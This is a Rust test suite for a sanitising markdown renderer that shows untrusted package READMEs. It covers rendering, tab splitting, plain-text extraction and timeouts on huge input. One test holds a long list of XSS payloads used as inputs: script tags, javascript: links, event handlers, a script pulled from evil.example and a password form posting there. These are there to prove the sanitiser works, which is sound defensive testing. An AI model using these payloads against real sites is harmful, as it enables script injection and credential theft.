//! READMEs come from strangers: what they render to must be harmless.

use domain::catalog::markdown::{outline, plain_text, render, sections, split};

/// Whether some markup in `html` could run, load, submit or imitate something.
fn harmful(html: &str) -> Option<String> {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').map_or(rest.len(), |end| start + end + 1);
        let tag = rest[start..end].to_lowercase();
        let name = tag.trim_start_matches(['<', '/']).split([' ', '>', '/']).next().unwrap_or_default();
        let known = [
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        let link_ok = !tag.contains("href=")
            || ["href=\"https://", "href=\"http://", "href=\"mailto:", "href=\"#readme-"]
                .iter()
                .any(|start| tag.contains(start));
        if !known.contains(&name)
            || !link_ok
            || [" on", "style=", "src=", "srcset="].iter().any(|bad| tag.contains(bad))
        {
            return Some(tag);
        }
        rest = &rest[end..];
    }
    None
}

#[test]
fn ordinary_readmes_look_as_written() {
    let html = render(
        "# Title\n\nText with `code`, **bold** and ~~old~~.\n\n## Set-up\n\n1. [Docs](https://docs.example.com/a?b=1&c=2)\n2. [Up](#title)\n\n\
         ```yaml\nurl: \"{{ webhook.url }}\"\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n### Deeper",
    );
    assert!(html.contains("<h2 id=\"readme-title\">Title</h2>"), "{html}");
    assert!(html.contains("<h2 id=\"readme-set-up\">Set-up</h2>"), "{html}");
    assert!(html.contains("<h3 id=\"readme-deeper\">Deeper</h3>"), "{html}");
    assert!(
        html.contains(
            "<a href=\"https://docs.example.com/a?b=1&amp;c=2\" rel=\"nofollow noopener noreferrer\">Docs</a>"
        ),
        "{html}"
    );
    assert!(html.contains("href=\"#readme-title\""), "{html}");
    assert!(html.contains("<code class=\"language-yaml\">url: \"{{ webhook.url }}\"\n</code>"), "{html}");
    assert!(html.contains("<td>1</td>") && html.contains("<del>old</del>"), "{html}");
    assert!(!html.contains("<h1") && !html.contains("style"), "{html}");
}

#[test]
fn attacks_end_as_text() {
    let attacks = [
        "<script>alert(1)</script>",
        "a <script src=//evil.example/x.js></script> b",
        "<SCRIPT\n>alert(1)</SCRIPT >",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A&#x61vascript:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](< javascript:alert(1)>)",
        "[x](\u{1}javascript:alert(1))",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](//evil.example)",
        "[x](/staff/approve)",
        "[x](../../etc/passwd)",
        "[x](file:///etc/passwd)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
        "![x](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "![\" onerror=\"alert(1)](x)",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\"//",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<style>body{display:none}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<iframe src=https://evil.example></iframe>",
        "<object data=x></object><embed src=x><base href=//evil.example><link rel=stylesheet href=x>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a id=\"search\" href=\"https://a.example\" target=_top onclick=alert(1)>x</a>",
        "<!-- --!><script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php <script>alert(1)</script> ?>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "\u{feff}<script>alert(1)</script>",
        "\u{fffd}<\u{fffd}script>alert(1)</script\u{fffd}>",
        "``` \" onload=alert(1)\nx\n```",
        "```a\"><script>alert(1)</script>\nx\n```",
        "## x {#search onclick=alert(1)}",
        "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "<details open ontoggle=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ];
    for attack in attacks {
        let html = render(attack);
        assert_eq!(harmful(&html), None, "{attack:?} became {html:?}");
    }
    assert!(render("<script>alert(1)</script>").contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_eq!(render("[x](javascript:alert(1))"), "<p>x</p>\n");
    assert_eq!(render("![A chart](https://evil.example/p.png)"), "<p>A chart</p>\n");
}

#[test]
fn huge_and_nested_texts_end_quickly() {
    let started = std::time::Instant::now();
    for unit in
        ["[", "> ", "*", "`", "- ", "<", "![", "[x](", "&", "<a ", "_a", "|", "\n> - ", "[^a]: ", "*a _b ", "~~"]
    {
        let text = unit.repeat(1024 * 1024 / unit.len() + 10);
        let html = render(&text);
        assert_eq!(harmful(&html), None, "{unit:?}");
        let _ = (plain_text(&text), split(&text), outline(&text));
    }
    assert!(started.elapsed().as_secs() < 60, "took {:?}", started.elapsed());
}

#[test]
fn set_up_and_troubleshooting_go_to_their_own_tab() {
    let text = "Intro.\n\n## What it does here\n\n- a\n\n```\n## Set-up\n```\n\n## Set-up\n\n1. b\n\n### Step\n\nc\n\n## Troubleshooting\n\n- d\n\n## Licence\n\ne\n";
    let (overview, setup) = split(text);
    assert!(overview.starts_with("Intro.") && overview.contains("## What it does here") && overview.ends_with('e'));
    assert!(overview.contains("```\n## Set-up\n```"), "{overview}");
    assert!(setup.starts_with("## Set-up") && setup.contains("### Step") && setup.ends_with("- d"), "{setup}");
    let titles: Vec<_> = sections(text).into_iter().map(|section| section.title).collect();
    assert_eq!(titles.len(), 5);
    assert_eq!(split("## Setup\nx").1, "## Setup\nx");
    assert_eq!(split("> ## Set-up\n"), ("> ## Set-up".to_owned(), String::new()));
}

#[test]
fn plain_text_has_the_words_only() {
    assert_eq!(
        plain_text("# A\n\nb **c** [d](https://e.example)\nf\n\n- `g`\n- h\n\n<script>x</script>"),
        "A b c d f g h"
    );
}

#[test]
fn outlines_name_links_and_anchors() {
    let outline = outline("# A b\n\n## A b\n\n[x](#a-b-1) [y](https://a.example) ![z](i.png)");
    assert_eq!(outline.links, ["#a-b-1", "https://a.example"]);
    assert_eq!(outline.images, 1);
    assert!(outline.anchors.contains("a-b") && outline.anchors.contains("a-b-1"));
}
